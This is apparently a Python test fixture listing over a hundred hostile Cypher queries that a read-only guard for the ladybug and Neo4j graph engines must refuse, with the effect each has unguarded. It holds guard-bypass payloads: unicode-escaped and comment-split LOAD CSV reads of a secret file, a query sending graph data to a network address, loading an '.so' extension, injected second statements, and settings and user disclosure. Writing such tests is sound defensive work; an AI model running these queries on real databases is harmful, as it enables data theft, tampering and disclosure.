"""Hostile queries, and what each engine alone does with them in a read-only session.

``{dir}`` is a folder of the test with a file ``secret.csv``, ``{url}`` an address of
the test. The effects are those of ladybug 0.22 opened read-only, and of Neo4j 5.26
(Community, as it comes) in a session with access mode READ, as the administrator.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

Effect = Literal["refuses", "answers", "reads", "asks", "writes", "breaks", "crashes"]
"""What an engine does without the guard: refuses it; answers (tells its settings or
users, changes a setting, runs a second statement); reads a file; asks an address of
the network; writes a file; leaves the store unreadable; falls over."""


@dataclass(frozen=True)
class Escape:
    """A text that must be refused, and the effect it has on each engine alone."""

    text: str
    ladybug: Effect = "refuses"
    neo4j: Effect = "refuses"


# fmt: off
ESCAPES: dict[str, Escape] = {
    "copy to a file": Escape("COPY (MATCH (n:Link) RETURN n.id) TO '{dir}/out.csv'", ladybug="writes"),
    "copy to parquet": Escape("COPY (MATCH (n:Link) RETURN n.id) TO '{dir}/out.parquet'", ladybug="writes"),
    "copy after a comment": Escape("/* MATCH (n) RETURN n */ COPY (MATCH (n:Link) RETURN n.id) TO '{dir}/out.csv'", ladybug="writes"),
    "copy in mixed case": Escape("cOpY (MATCH (n:Link) RETURN n.id) tO '{dir}/out.csv'", ladybug="writes"),
    "export the database": Escape("EXPORT DATABASE '{dir}/dump'", ladybug="writes"),
    "load from a file": Escape("LOAD FROM '{dir}/secret.csv' (header = true) RETURN *", ladybug="reads"),
    "load within a query": Escape("MATCH (n:Link) LOAD FROM '{dir}/secret.csv' RETURN *", ladybug="reads"),
    "load in a union": Escape("RETURN 'a' AS word UNION ALL LOAD FROM '{dir}/secret.csv' RETURN *", ladybug="reads"),
    "load with headers": Escape("LOAD WITH HEADERS (word STRING) FROM '{dir}/secret.csv' RETURN word", ladybug="reads"),
    "load behind a line end of its own": Escape("RETURN 'a' AS x // x\rUNION ALL LOAD FROM '{dir}/secret.csv' RETURN *"),
    "load behind stars": Escape("MATCH (n:Link) /* **/ + ' */ LOAD FROM '{dir}/secret.csv' RETURN * // '", ladybug="reads"),
    "load by a pattern of names": Escape("LOAD FROM '{dir}/*.csv' RETURN *", ladybug="reads"),
    "attach a database": Escape("ATTACH '{dir}/other.lbug' AS o (dbtype lbug)"),
    "load an extension": Escape("LOAD EXTENSION '{dir}/evil.so'"),
    "load csv": Escape("LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "load csv with headers": Escape("LOAD CSV WITH HEADERS FROM 'file://{dir}/secret.csv' AS line RETURN line.word", neo4j="reads"),
    "load csv after a match": Escape("MATCH (n:Link) WITH count(n) AS n LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN n, line", neo4j="reads"),
    "load csv from the network": Escape("LOAD CSV FROM '{url}/take' AS line RETURN line", neo4j="asks"),
    "load csv sends the graph away": Escape("MATCH (n:Link) WITH collect(n.id) AS ids LOAD CSV FROM '{url}/' + ids[0] AS line RETURN line", neo4j="asks"),
    "load csv in a subquery": Escape("CALL () { LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line } RETURN line", neo4j="reads"),
    "load csv in two subqueries": Escape("CALL { CALL { LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line } RETURN line } RETURN line", neo4j="reads"),
    "load csv in exists": Escape("MATCH (n:Link) WHERE EXISTS { LOAD CSV FROM 'file://{dir}/secret.csv' AS line WITH line WHERE line[0] STARTS WITH 'secret' RETURN line } RETURN n.id", neo4j="answers"),
    "load csv in collect": Escape("RETURN COLLECT { LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line[0] } AS x", neo4j="reads"),
    "load csv in count": Escape("RETURN COUNT { LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line } AS x", neo4j="answers"),
    "load csv in a union": Escape("RETURN ['a'] AS line UNION LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "load csv by unicode escapes": Escape("\\u004cOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line"),
    "load csv by an escaped letter": Escape("WITH 1 AS x \\u004cOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "load csv in escapes alone": Escape("WITH 1 AS x \\u004c\\u004f\\u0041\\u0044 \\u0043\\u0053\\u0056 \\u0046ROM 'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "load csv cut by a comment": Escape("LOAD/**/CSV/* */FROM 'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "load csv behind a line comment": Escape("// RETURN 1\nLOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "load csv behind an escaped line end": Escape("WITH 1 AS x // \\u000aLOAD CSV FROM 'file://{dir}/secret.csv' AS line\nRETURN line", neo4j="reads"),
    "load csv behind an escaped end of comment": Escape("WITH 1 AS x /* \\u002a/ LOAD CSV FROM 'file://{dir}/secret.csv' AS line /* */ RETURN line", neo4j="reads"),
    "load csv behind an escaped quote": Escape("WITH '\\u0027 AS x LOAD CSV FROM \"file://{dir}/secret.csv\" AS line RETURN line //'", neo4j="reads"),
    "load csv behind an escaped backtick": Escape("WITH 1 AS `a\\u0060 LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line //`", neo4j="reads"),
    "load csv behind a carriage return": Escape("WITH 1 AS x // x\rLOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "load csv behind stars": Escape("WITH 1 AS x /***/ LOAD CSV FROM 'file://{dir}/secret.csv' AS line /***/ RETURN line", neo4j="reads"),
    "load csv with odd blanks": Escape("LOAD\u00a0CSV\u2003FROM\u3000'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "load csv with a byte order mark": Escape("\ufeffLOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line"),
    "load csv with a field terminator": Escape("LOAD CSV FROM 'file://{dir}/secret.csv' AS line FIELDTERMINATOR '\\n' RETURN line", neo4j="reads"),
    "load csv in capitals of full width": Escape("ＬＯＡＤ ＣＳＶ FROM 'file://{dir}/secret.csv' AS line RETURN line"),
    "load csv with a version": Escape("CYPHER 5 LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "load csv with a runtime": Escape("CYPHER runtime = slotted LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "load csv profiled": Escape("PROFILE LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "load csv with periodic commit": Escape("USING PERIODIC COMMIT 10 LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line"),
    "load csv in transactions": Escape("LOAD CSV FROM 'file://{dir}/secret.csv' AS line CALL (line) { RETURN line[0] AS x } IN TRANSACTIONS OF 1 ROWS RETURN x", neo4j="reads"),
    "load csv of another database": Escape("USE neo4j LOAD CSV FROM 'file://{dir}/secret.csv' AS line RETURN line", neo4j="reads"),
    "create": Escape("CREATE (:Link {id: 'x'})"),
    "create by unicode escapes": Escape("\\u0043REATE (:Link {id: 'x'})"),
    "create in full width": Escape("ＣＲＥＡＴＥ (:Link {id: 'x'})"),
    "create in a subquery": Escape("CALL () { CREATE (:Link {id: 'x'}) } RETURN 1 AS x"),
    "create in transactions": Escape("UNWIND [1] AS x CALL (x) { CREATE (:Link {id: 'x'}) } IN TRANSACTIONS"),
    "create in concurrent transactions": Escape("UNWIND [1] AS x CALL (x) { CREATE (:Link {id: 'x'}) } IN 2 CONCURRENT TRANSACTIONS"),
    "create in a foreach": Escape("FOREACH (x IN [1] | CREATE (:Link {id: 'x'}))"),
    "create in a union": Escape("RETURN 1 AS x UNION CREATE (n:Link {id: 'x'}) RETURN 1 AS x"),
    "insert": Escape("INSERT (:Link {id: 'x'})"),
    "create behind backticks": Escape("MATCH (`n`:`Link`) CREATE (:`Link` {id: 'x'})"),
    "create behind a quote": Escape("WITH 'it\\'s' AS x CREATE (:Link {id: 'x'}) //'"),
    "create with a dynamic label": Escape("CREATE (:$('Link') {id: 'x'})"),
    "create as a second statement": Escape("MATCH (n:Link) RETURN n.id; CREATE (:Link {id: 'x'})"),
    "create explained": Escape("EXPLAIN CREATE (:Link {id: 'x'})", neo4j="answers"),
    "create profiled": Escape("PROFILE CREATE (:Link {id: 'x'})"),
    "merge": Escape("MERGE (:Link {id: 'x'})"),
    "set": Escape("MATCH (n:Link) SET n.`create` = 1 RETURN n.id"),
    "set all": Escape("MATCH (n:Link) SET n += {`create`: 1} RETURN n.id"),
    "set a dynamic property": Escape("MATCH (n:Link) SET n['create'] = 1 RETURN n.id"),
    "set a dynamic label": Escape("MATCH (n:Link) SET n:$('Gone') RETURN n.id"),
    "set in exists": Escape("MATCH (n:Link) WHERE EXISTS { MATCH (m:Link) SET m.`create` = 1 RETURN m } RETURN n.id"),
    "set in count": Escape("MATCH (n:Link) RETURN COUNT { MATCH (m:Link) SET m.`create` = 1 RETURN m } AS x"),
    "set in collect": Escape("RETURN COLLECT { MATCH (m:Link) SET m.`create` = 1 RETURN m.id } AS x"),
    "remove a label": Escape("MATCH (n:Link) REMOVE n:Link RETURN n.id"),
    "delete": Escape("MATCH (n:Link) DETACH DELETE n"),
    "delete without detach": Escape("MATCH (:Link)-[r]->() DELETE r"),
    "delete in a subquery": Escape("MATCH (n:Link) CALL (n) { DETACH DELETE n } RETURN 1 AS x"),
    "create an index": Escape("CREATE INDEX escaped FOR (n:Link) ON (n.zh)"),
    "create a constraint": Escape("CREATE CONSTRAINT escaped FOR (n:Link) REQUIRE n.id IS UNIQUE"),
    "create a table": Escape("CREATE NODE TABLE T(id STRING PRIMARY KEY)"),
    "create a macro": Escape("CREATE MACRO escaped(x) AS x + 1"),
    "create a user": Escape("CREATE USER escaped SET PASSWORD 'escaped'"),
    "change the password": Escape("ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'"),
    "alter a table": Escape("ALTER TABLE Link ADD escaped INT64"),
    "drop a table": Escape("DROP TABLE FEEDS"),
    "drop a constraint": Escape("DROP CONSTRAINT escaped IF EXISTS"),
    "comment on a table": Escape("COMMENT ON TABLE Link IS 'escaped'"),
    "begin a transaction": Escape("BEGIN TRANSACTION", ladybug="answers"),
    "checkpoint": Escape("CHECKPOINT", ladybug="breaks"),
    "set a setting": Escape("CALL threads = 1", ladybug="answers"),
    "read a setting": Escape("CALL current_setting('threads') RETURN *", ladybug="answers"),
    "second statement": Escape("RETURN 1 AS x; RETURN 2 AS x", ladybug="answers"),
    "second statement writes a file": Escape("RETURN 1; COPY (RETURN 1) TO '{dir}/out.csv'", ladybug="writes"),
    "comment that goes on": Escape("RETURN 1 /* **/ + ' */ AS x; EXPORT DATABASE '{dir}/d' //'", ladybug="writes"),
    "settings": Escape("SHOW SETTINGS YIELD name, value RETURN name, value", neo4j="answers"),
    "settings by a procedure": Escape("CALL dbms.listConfig() YIELD name, value RETURN name, value", neo4j="answers"),
    "settings by a quoted procedure": Escape("CALL `dbms`.`listConfig`() YIELD name RETURN name", neo4j="answers"),
    "settings by a spaced procedure": Escape("CALL dbms /* x */ . listConfig ( ) YIELD name RETURN name", neo4j="answers"),
    "settings by an escaped procedure": Escape("CALL \\u0064bms.listConfig() YIELD name RETURN name", neo4j="answers"),
    "settings in a subquery": Escape("CALL () { CALL dbms.listConfig() YIELD name RETURN name } RETURN name", neo4j="answers"),
    "change a setting": Escape("CALL dbms.setConfigValue('db.transaction.timeout', '1s')"),
    "databases": Escape("SHOW DATABASES YIELD name RETURN name", neo4j="answers"),
    "users": Escape("SHOW USERS YIELD user RETURN user", neo4j="answers"),
    "current user": Escape("SHOW CURRENT USER YIELD user RETURN user", neo4j="answers"),
    "transactions": Escape("SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery", neo4j="answers"),
    "end a transaction": Escape("TERMINATE TRANSACTION 'neo4j-transaction-1'", neo4j="answers"),
    "procedures": Escape("SHOW PROCEDURES YIELD name RETURN name", neo4j="answers"),
    "indexes": Escape("SHOW INDEXES YIELD name RETURN name", neo4j="answers"),
    "another database": Escape("USE system SHOW DATABASES YIELD name RETURN name"),
    "another database to read": Escape("USE system MATCH (n) RETURN count(n) AS x"),
    "connections": Escape("CALL dbms.listConnections() YIELD username, clientAddress RETURN *", neo4j="answers"),
    "metrics": Escape("CALL dbms.queryJmx('*:*') YIELD name, attributes RETURN name", neo4j="answers"),
    "components": Escape("CALL dbms.components() YIELD name, versions RETURN *", neo4j="answers"),
    "clear the plans": Escape("CALL db.clearQueryCaches()", neo4j="answers"),
    "create a label": Escape("CALL db.createLabel('Escaped')"),
    "create a property": Escape("CALL db.createProperty('escaped')"),
    "sample an index": Escape("CALL db.resampleOutdatedIndexes()", neo4j="answers"),
    "create a node by a procedure": Escape("CALL db.create.setNodeVectorProperty(1, 'x', [1.0])"),
    "apoc reads a file": Escape("CALL apoc.load.json('file://{dir}/secret.csv')"),
    "apoc runs a text": Escape("RETURN apoc.cypher.runFirstColumnSingle('CREATE (:Link)', {}) AS x"),
    "project a graph": Escape("CALL PROJECT_GRAPH_CYPHER('g', 'MATCH (n) RETURN n')", ladybug="answers"),
    "read a csv by a procedure": Escape("CALL read_csv_serial('{dir}/secret.csv') RETURN *", ladybug="crashes"),
    "clear warnings": Escape("CALL clear_warnings()"),
    "plan": Escape("EXPLAIN MATCH (n:Link) RETURN n.id", ladybug="answers", neo4j="answers"),
    "profile": Escape("PROFILE MATCH (n:Link) RETURN n.id", ladybug="answers", neo4j="answers"),
    "the file of a row": Escape("RETURN file() AS x", neo4j="answers"),
    "an error of one's own": Escape("RETURN error('secret') AS x"),
    "a text of any length": Escape("RETURN size(repeat('x', 100000)) AS x", ladybug="answers"),
    "functions of the engine": Escape("CALL show_functions() RETURN name", ladybug="answers"),
}
# fmt: on
